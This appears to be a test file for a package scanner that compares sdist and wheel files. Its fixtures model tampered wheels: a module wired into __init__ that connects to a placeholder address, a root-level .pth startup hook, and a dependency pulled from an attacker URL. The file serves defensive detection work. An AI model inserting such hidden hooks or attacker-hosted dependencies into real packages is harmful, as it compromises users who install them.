"""The sdist and the wheel of one release, compared after the scan (pkgvet.crosscheck).

Each case builds both files of a release; the expected verdict is the wheel's, with the rule
ids beside it. Payloads are inert (a connection to a TEST-NET address that is never made).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from builders import make_sdist, make_wheel, pkg_info
from pkgvet import crosscheck
from pkgvet.model import ArtifactKind, ScanResult, Verdict
from pkgvet.pipeline import ResolveOptions, scan_artifact, scan_targets
from pkgvet.sources.local import local_artifact

Files = dict[str, str | bytes]
SETUP = "from setuptools import setup\nsetup()\n"
CFG = "[metadata]\nname = {name}\n[options]\npackages = find:\n"


@dataclass(frozen=True)
class Release:
    sdist: Files
    wheel: Files
    verdict: Verdict
    rules: frozenset[str]
    absent: frozenset[str] = frozenset()


def release(sdist: Files, wheel: Files, verdict: Verdict, rules: str = "", absent: str = "") -> Release:
    return Release(sdist, wheel, verdict, frozenset(rules.split()), frozenset(absent.split()))


DIST = "relpkg-1.0.dist-info"
CASES: dict[str, Release] = {
    # The wheel adds a top-level module and a changed __init__ imports it at import time.
    "wheel_adds_module_wired_into_init": release(
        {"setup.py": SETUP, "relpkg/__init__.py": "VALUE = 1\n"},
        {"relpkg/__init__.py": "VALUE = 1\nimport relpkg_stats\n",
         "relpkg_stats.py": "import socket\n\ndef ping():\n"
                            "    return socket.create_connection(('203.0.113.9', 443))\n"},
        Verdict.SUSPICIOUS, "PV530 PV531"),
    # A .pth at the wheel's root that the sdist never had: runs at every interpreter start.
    "wheel_adds_pth_file": release(
        {"setup.py": SETUP, "relpkg/__init__.py": ""},
        {"relpkg/__init__.py": "", "relpkg_init.pth": "import relpkg\n"},
        Verdict.SUSPICIOUS, "PV530"),
    # An extra top-level package not wired in: a fact worth showing, not a verdict.
    "wheel_adds_unwired_package": release(
        {"setup.py": SETUP, "relpkg/__init__.py": ""},
        {"relpkg/__init__.py": "", "extra_helpers/__init__.py": "def f():\n    return 1\n"},
        Verdict.BENIGN, "PV530"),
    # Entry point only in the wheel; the sdist's setup.cfg declares its commands.
    "wheel_only_entry_point": release(
        {"setup.py": SETUP, "relpkg/__init__.py": "", "relpkg/cli.py": "def main():\n    pass\n",
         "setup.cfg": CFG.format(name="relpkg") + "[options.entry_points]\nconsole_scripts =\n"
                      "    relpkg = relpkg.cli:main\n"},
        {"relpkg/__init__.py": "", "relpkg/cli.py": "def main():\n    pass\n",
         f"{DIST}/entry_points.txt": "[console_scripts]\nrelpkg = relpkg.cli:main\n"
                                     "relpkg-sync = relpkg.cli:main\n"},
        Verdict.BENIGN, "PV532"),
    # A direct-URL dependency only in the wheel's METADATA.
    "wheel_only_direct_url_dependency": release(
        {"setup.py": SETUP, "relpkg/__init__.py": "",
         "PKG-INFO": pkg_info("relpkg", "1.0", "Requires-Dist: requests\n")},
        {"relpkg/__init__.py": "",
         f"{DIST}/METADATA": pkg_info("relpkg", "1.0", "Requires-Dist: requests\n"
                                      "Requires-Dist: helper @ https://cdn.attacker.invalid/h.whl\n")},
        Verdict.SUSPICIOUS, "PV533 PV515"),
    # -- benign look-alikes ----------------------------------------------------------------
    # src layout, a build-generated _version.py, a namespace -nspkg.pth, a version stamp in
    # __init__, the same entry points and dependencies on both sides.
    "benign_built_from_its_sdist": release(
        {"setup.py": SETUP, "src/relpkg/__init__.py": "__version__ = '0.0.0'\nVALUE = 1\n",
         "src/relpkg/cli.py": "def main():\n    pass\n",
         "relpkg.egg-info/entry_points.txt": "[console_scripts]\nrelpkg = relpkg.cli:main\n",
         "PKG-INFO": pkg_info("relpkg", "1.0", "Requires-Dist: click\n")},
        {"relpkg/__init__.py": "__version__ = '1.0'\nVALUE = 1\n",
         "relpkg/_version.py": "version = '1.0'\n", "relpkg/cli.py": "def main():\n    pass\n",
         "relpkg-1.0-py3.11-nspkg.pth": "import sys\n",
         f"{DIST}/entry_points.txt": "[console_scripts]\nrelpkg = relpkg.cli:main\n",
         f"{DIST}/METADATA": pkg_info("relpkg", "1.0", "Requires-Dist: click\n")},
        Verdict.BENIGN, "", "PV530 PV531 PV532 PV533"),
    # A compiled extension the sdist ships as C source and a setup.py that computes its entry
    # points (unknown statically, so not compared).
    "benign_extension_and_dynamic_setup": release(
        {"setup.py": "from setuptools import setup\nsetup(entry_points=make_points())\n",
         "relpkg/__init__.py": "", "relpkg/_speedups.c": "int x;\n"},
        {"relpkg/__init__.py": "", "relpkg/_speedups.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
         f"{DIST}/entry_points.txt": "[console_scripts]\nrelpkg = relpkg:main\n"},
        Verdict.BENIGN, "", "PV530 PV532"),
}


def _pair(tmp_path: Path, case: Release) -> tuple[Path, Path]:
    sdist = make_sdist(tmp_path, "relpkg", "1.0", case.sdist)
    wheel = make_wheel(tmp_path, "relpkg", "1.0", case.wheel)
    return sdist, wheel


def _wheel_result(results: list[ScanResult]) -> ScanResult:
    return next(r for r in results if r.kind is ArtifactKind.WHEEL)


@pytest.mark.parametrize("technique", sorted(CASES))
def test_release_pair(technique: str, tmp_path: Path) -> None:
    case = CASES[technique]
    artifacts = [local_artifact(p) for p in _pair(tmp_path, case)]
    results = crosscheck.apply([scan_artifact(a) for a in artifacts], artifacts)
    wheel = _wheel_result(results)
    ids = {f.rule_id for f in wheel.findings}
    assert case.rules <= ids, f"{technique}: missing {case.rules - ids}; got {sorted(ids)}"
    assert not (case.absent & ids), f"{technique}: unexpected {case.absent & ids}"
    assert wheel.verdict is case.verdict, [(f.rule_id, f.severity.label, f.snippet) for f in wheel.findings]


def test_scan_targets_cross_checks_local_files(tmp_path: Path) -> None:
    sdist, wheel = _pair(tmp_path, CASES["wheel_adds_pth_file"])
    report = scan_targets([str(sdist), str(wheel)], ropts=ResolveOptions(), jobs=1)
    assert "PV530" in {f.rule_id for f in _wheel_result(list(report.results)).findings}


def test_other_versions_are_not_compared(tmp_path: Path) -> None:
    case = CASES["wheel_adds_pth_file"]
    sdist = make_sdist(tmp_path, "relpkg", "0.9", case.sdist)
    wheel = make_wheel(tmp_path, "relpkg", "1.0", case.wheel)
    artifacts = [local_artifact(sdist), local_artifact(wheel)]
    results = crosscheck.apply([scan_artifact(a) for a in artifacts], artifacts)
    assert "PV530" not in {f.rule_id for f in _wheel_result(results).findings}


def test_an_unreadable_file_at_cross_check_time_loses_nothing(tmp_path: Path) -> None:
    sdist, wheel = _pair(tmp_path, CASES["wheel_adds_module_wired_into_init"])
    artifacts = [local_artifact(sdist), local_artifact(wheel)]
    scanned = [scan_artifact(a) for a in artifacts]
    wheel.write_bytes(b"PK\x03\x04 truncated")
    sdist.write_bytes(b"\x1f\x8b broken")
    results = crosscheck.apply(scanned, artifacts)
    assert len(results) == 2
    assert "PV530" in {f.rule_id for f in _wheel_result(results).findings}  # from the file lists
